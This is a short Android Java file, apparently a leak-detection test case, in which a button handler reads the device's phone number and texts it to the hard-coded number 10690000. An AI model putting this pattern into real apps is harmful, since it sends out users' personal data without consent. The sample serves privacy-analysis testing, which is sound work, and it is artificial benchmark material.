package cn.privlens.suite.click_of_layout_in_use;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.View;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.shown);
    }

    public void forward(View button) {
        SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number(), null, null);
    }

    public void close(View button) {
        finish();
    }
}
